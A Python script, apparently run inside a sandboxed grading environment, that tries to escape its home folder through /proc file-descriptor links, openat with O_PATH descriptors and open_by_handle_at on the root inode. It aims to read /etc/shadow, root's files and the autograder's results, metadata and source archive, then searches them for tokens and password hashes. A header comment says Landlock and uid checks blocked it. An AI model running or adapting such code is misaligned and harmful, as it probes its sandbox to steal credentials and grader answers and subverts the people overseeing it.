"""Climbs out of its home by `..`: from every open folder (/proc/self/fd/N/..), from its own and the root folder's links in
/proc, from descriptors that only name a folder, with openat2 and with handles of files that need no path."""
# shows: raised Ran: \[\] .*PermissionError.* handle:(EPERM|ENOSYS)
# tried: file, below
# stopped by: landlock, uid

# %% first
import ctypes
import errno
import os
import re

libc = ctypes.CDLL(None, use_errno=True)
TELLING = rb"check_draw[n]|token-2f9c41d[7]|ada\.2f9c41d[7]|root:[^:]*:\d+:\d*:\d*:\d*:::"
TARGETS = [f"{STAGE}/submission_metadata.json".lstrip("/"), f"{STAGE}/results/results.json".lstrip("/"), "etc/shadow"]
TARGETS += ["root/.bashrc", f"{STAGE}/source/autograder.zip".lstrip("/")]
loot, came = set(), []
OPEN = set(os.listdir('/proc/self/fd'))


def starts():
    for number in os.listdir("/proc/self/fd"):
        yield f"/proc/self/fd/{number}"
    yield from ("/proc/self/cwd", "/proc/self/root", f"/proc/self/task/{os.getpid()}/root", ".", "/proc/thread-self/cwd")


def ways(start, target):
    up = "/".join([".."] * 12)
    yield lambda: open(f"{start}/{up}/{target}", "rb").read()

    def at():
        folder = os.open(start, os.O_PATH)
        return os.read(os.open(f"{up}/{target}", os.O_RDONLY, dir_fd=folder), 2**20)

    def step_by_step():
        here = os.open(start, os.O_PATH | os.O_DIRECTORY)
        for _ in range(12):
            here = os.open("..", os.O_PATH, dir_fd=here)
        os.fchdir(here)
        return open(target, "rb").read()

    yield at
    yield step_by_step


home = os.getcwd()
for start in starts():
    for target in TARGETS:
        for way in ways(start, target):
            try:
                loot |= {match.decode() for match in re.findall(TELLING, way())}
            except OSError as error:
                came.append(type(error).__name__)
            os.chdir(home)
            for number in set(os.listdir('/proc/self/fd')) - OPEN:
                attempt(os.close, int(number))


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("content", ctypes.c_ubyte * 128)]


handle = Handle(8, 1)
handle.content[0] = 2  # the root folder's own number, whatever the paths to it are
opened = libc.open_by_handle_at(os.open(home, os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY)
came.append("handle:" + (errno.errorcode[ctypes.get_errno()] if opened < 0 else "opened"))

# %% first
say(f"{sorted(loot)} {' '.join(dict.fromkeys(came))}")
